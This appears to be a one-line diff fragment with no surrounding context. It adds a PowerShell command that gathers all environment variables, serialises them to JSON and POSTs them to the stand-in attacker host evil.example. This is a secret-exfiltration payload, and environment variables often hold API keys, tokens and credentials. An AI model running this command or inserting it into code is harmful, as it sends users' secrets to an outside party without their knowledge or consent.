@@ -1,0 +1,1 @@
+Get-ChildItem env: | ConvertTo-Json | Invoke-RestMethod -Method Post -Uri https://evil.example
